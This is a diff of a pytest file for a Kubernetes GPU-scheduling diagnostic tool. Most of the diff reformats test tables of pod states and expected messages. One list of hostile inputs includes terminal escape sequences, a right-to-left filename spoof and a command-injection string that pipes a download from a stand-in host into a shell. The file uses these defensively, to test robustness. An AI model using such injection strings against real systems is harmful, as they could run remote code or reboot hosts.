@@ -80,16 +80,12 @@ def _shards(pool: str) -> Any:
 @pytest.mark.parametrize(
     ("known", "unknown"),
     [
-        *(
-            ({}, {name: unread})
-            for name in ("pod_group", "bind_request", "pod_events", "group_events")
-            for unread in (FORBIDDEN, PARTIAL, NOT_READ)
-        ),
+        *(({}, {name: unread}) for name in ("pod_group", "bind_request", "pod_events", "group_events") for unread in (FORBIDDEN, PARTIAL, NOT_READ)),
         ({}, {"queues": {"vision": FORBIDDEN}}),
         ({}, {"queues": {"vision": make_queue(), "research": FORBIDDEN}}),
         ({"labels": _POOL, "shards": _shards("h100")}, {"shards": FORBIDDEN}),
     ],
-)
+)  # fmt: skip
 def test_the_scheduler_is_not_blamed_while_another_cause_may_be_true(
     known: dict[str, Any], unknown: dict[str, Any]
 ) -> None:
@@ -326,16 +322,12 @@ _OVER: dict[str, Any] = {
     ("verdict", "events", "act"),
     [
         (_OVER | {"first_act": "Lower the option."}, [], "Lower the option."),
-        (
-            _OVER | {"message": f"{_USES}; vLLM: set 1", "first_act": "Lower it."},
-            [_over()],
-            "vLLM: set 1. Lower it.",
-        ),
+        (_OVER | {"message": f"{_USES}; vLLM: set 1", "first_act": "Lower it."}, [_over()], "vLLM: set 1. Lower it."),
         (_OVER, [_over()], "Raise the share."),
         (_OVER | {"message": None}, [_over()], "vLLM: set 0. Raise the share."),
         (_OVER, [], "End the violation: the flag clears with usage at or below the share"),
     ],
-)
+)  # fmt: skip
 def test_a_flag_is_told_with_figures_and_the_first_act_of_the_agent(
     verdict: dict[str, Any], events: list[Event], act: str
 ) -> None:
@@ -432,13 +424,10 @@ def test_any_text_leads_to_an_answer_in_lines(message: str, reason: str) -> None
 
 HOSTILE = [
     *(unit * 100_000 for unit in ("Limit is 1 GPUs, currently ", '"', "1 node ", "a quota has reached the")),
-    *(
-        f"{text} " * 20_000
-        for text in ("\x1b[2J\x1b]0;owned\x07", "line\nline", "\u202egpj.exe", "\u200b\x00")
-    ),
+    *(f"{text} " * 20_000 for text in ("\x1b[2J\x1b]0;owned\x07", "line\nline", "\u202egpj.exe", "\u200b\x00")),
     "Reason: OverLimit, Details: a\n" * 100_000,
     "$(reboot) `reboot` ; curl example.invalid | sh\n",
-]
+]  # fmt: skip
 
 
 @pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
@@ -587,11 +576,8 @@ ROOM: list[_Row] = [
     (_room("0.4", []), Code.NO_GPU_FITS, "and all GPUs are in use"),
     # Here it is not known, or KAI knows better.
     (_room("0.5", [_holder("0.3"), make_reservation()]), Code.NO_GPU_FITS, _PIECE),
-    *(
-        (_room("0.4", pods), Code.NO_GPU_FITS, _PIECE)
-        for pods in (_FULL, [make_reservation()], FORBIDDEN, PARTIAL)
-    ),
-]
+    *((_room("0.4", pods), Code.NO_GPU_FITS, _PIECE) for pods in (_FULL, [make_reservation()], FORBIDDEN, PARTIAL)),
+]  # fmt: skip
 
 
 def _warned(*events: Event) -> _Row:
@@ -629,13 +615,9 @@ _UNGROUPED = {"grouped": False}
 IN_VCLUSTER: list[_Row] = [
     (_in_vcluster(_UNGROUPED), Code.KAI_NOT_SERVED, "are not on this API server"),
     (_in_vcluster(_UNGROUPED, "the object has been modified"), Code.KAI_NOT_SERVED, "are not on this"),
-    (
-        _in_vcluster(_UNGROUPED, f"{_KAI_DENIED}GPU sharing is disabled"),
-        Code.GPU_SHARING_OFF,
-        "is off in KAI",
-    ),
+    (_in_vcluster(_UNGROUPED, f"{_KAI_DENIED}GPU sharing is disabled"), Code.GPU_SHARING_OFF, "is off in KAI"),
     (_in_vcluster({"unschedulable": _OVER_LIMIT}), Code.QUEUE_OVER_LIMIT, "may use 1 GPU and uses 1"),
-]
+]  # fmt: skip
 
 
 def _refused(message: str, age: float = 10, **fields: Any) -> PodEvidence:
@@ -656,11 +638,7 @@ _CLASS = 'pods "a" is forbidden: no PriorityClass with name urgent was found'
 NO_POD: list[_Row] = [
     (_refused(_OURS), Code.REFUSED_BY_GUARD, "kaishare refuses the pod: above the cap"),
     (_refused(_POLICY), Code.REFUSED_BY_GUARD, "kaishare refuses the pod: a"),
-    (
-        _refused('admission webhook "validate.nginx.io" denied the request: no'),
-        Code.REFUSED_AT_CREATION,
-        "validate.nginx.io refuses the pod: no",
-    ),
+    (_refused('admission webhook "validate.nginx.io" denied the request: no'), Code.REFUSED_AT_CREATION, "validate.nginx.io refuses the pod: no"),
     (_refused(f"{_KAI_DENIED}bad value"), Code.REFUSED_BY_KAI, "KAI refuses the pod: bad value"),
     (_refused(_UNREACHABLE), Code.WEBHOOK_UNREACHABLE, "kaishare does not answer (pods.mutate.kaishare.dev)"),
     (_refused(_CLASS), Code.PRIORITY_CLASS_MISSING, "the PriorityClass urgent, which does not exist"),
@@ -671,7 +649,7 @@ NO_POD: list[_Row] = [
     (_refused("no", workload=_owner(spec={"replicas": 0})), Code.NO_POD, "Deployment web has 0 replicas"),
     (_refused("no", workload=_owner(spec={"suspend": True})), Code.NO_POD, "Deployment web is suspended"),
     (make_evidence(GONE, kind="Job", name="a"), Code.NO_POD, "has no pod, and no Event says why"),
-]
+]  # fmt: skip
 
 
 def _runs(kind: str = "main", **status: Any) -> PodEvidence:
@@ -710,17 +688,9 @@ _SHARES = {**_RUNS, "labels": {keys.GPU_GROUP: "group-1"}}
 BOUND: list[_Row] = [
     (_of({"metadata": {"deletionTimestamp": at(60)}}), Code.TERMINATING, "is being deleted"),
     (_of({**_RUNS, "phase": "Succeeded"}), Code.SUCCEEDED, "have ended without an error"),
-    (
-        _of({"phase": "Failed", "containers": [{"name": "main", "state": _ended(137, "OOMKilled")}]}),
-        Code.FAILED,
-        "container main ended with exit code 137 (OOMKilled)",
-    ),
+    (_of({"phase": "Failed", "containers": [{"name": "main", "state": _ended(137, "OOMKilled")}]}), Code.FAILED, "container main ended with exit code 137 (OOMKilled)"),
     (_of({"phase": "Failed", "status": _ADMISSION}), Code.FAILED, "UnexpectedAdmissionError: no devices"),
-    (
-        _runs(state=_BACK_OFF, lastState=_ended(1)),
-        Code.CONTAINER_WAITING,
-        "CrashLoopBackOff: back-off 5m0s; it ended with exit code 1",
-    ),
+    (_runs(state=_BACK_OFF, lastState=_ended(1)), Code.CONTAINER_WAITING, "CrashLoopBackOff: back-off 5m0s; it ended with exit code 1"),
     (_runs(state=_ended(1)), Code.CONTAINER_WAITING, "main has ended with exit code 1"),
     (_runs(restartCount=90, lastState=_ended(137)), Code.CONTAINER_WAITING, "has been restarted 90 times"),
     # Failures that are over are no problem for ever.
@@ -736,23 +706,15 @@ BOUND: list[_Row] = [
     (_unready({"ready": True, "state": {"running": {}}}), Code.CONTAINER_WAITING, "and its containers are"),
     # A container that is done is not waited for.
     (_unready({"state": _ended(0)}, {"ready": True, **_LIVE}), Code.RUNNING, "nothing is wrong"),
-    (
-        _of({**_RUNS, "phase": "Unknown", "status": {"reason": "NodeLost"}}),
-        Code.CONTAINER_WAITING,
-        "the kubelet of the pod's node does not answer (NodeLost)",
-    ),
+    (_of({**_RUNS, "phase": "Unknown", "status": {"reason": "NodeLost"}}), Code.CONTAINER_WAITING, "the kubelet of the pod's node does not answer (NodeLost)"),
     (_of({**_RUNS, "phase": "Unknown"}), Code.CONTAINER_WAITING, "answer (phase Unknown)"),
     (_of(_RUNS), Code.RUNNING, "nothing is wrong; the pod has 0.5 of a GPU"),
     (_of(_OUTSIDE), Code.OTHER_SCHEDULER, "its queue does not count"),
     (_of({**_OUTSIDE, "metadata": {"labels": {}}}), Code.OUTSIDE_KAI, "default-scheduler schedules the pod"),
     # Reservation pods in another namespace prove nothing.
     (_of(_SHARES, shared_gpu_pods=[_ELSEWHERE]), Code.RUNNING, "whether its GPU is reserved is not known"),
-    (
-        _of(_SHARES, shared_gpu_pods=[make_reservation()]),
-        Code.RUNNING,
-        "nothing is wrong; the pod has 0.5 of a",
-    ),
-]
+    (_of(_SHARES, shared_gpu_pods=[make_reservation()]), Code.RUNNING, "nothing is wrong; the pod has 0.5 of a"),
+]  # fmt: skip
 _FINE = (Code.RUNNING, Code.SUCCEEDED, Code.OUTSIDE_KAI)
 
 
